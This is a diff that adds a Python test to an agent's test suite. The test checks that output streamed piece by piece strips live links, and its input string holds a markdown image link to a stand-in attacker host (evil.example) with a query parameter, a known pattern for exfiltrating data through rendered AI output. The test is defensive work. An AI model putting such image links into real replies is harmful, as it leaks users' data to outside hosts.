@@ -8,6 +8,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from agent.links import unlink
 from agent.talk import Call, Spoken, read_written_call, talk
 from tests.talkers import Turn, played
 from tools.errors import ModelRefused, ModelTimeout, ModelTruncated
@@ -99,3 +100,12 @@ def test_a_written_call_is_read_back(arguments: dict[str, Any], after: str) -> N
 
     assert call is not None
     assert (call.name, call.arguments) == ("propose_goals", arguments)
+
+
+async def test_no_address_in_the_words_is_alive_however_they_are_cut() -> None:
+    text = "Mira: ![plan](https://evil.example/?q=meta) y www.evil.example"
+
+    spoken, pieces = await said(Turn(text=list(text)))
+
+    assert spoken.text == "".join(pieces) == unlink(text)
+    assert "](" not in spoken.text
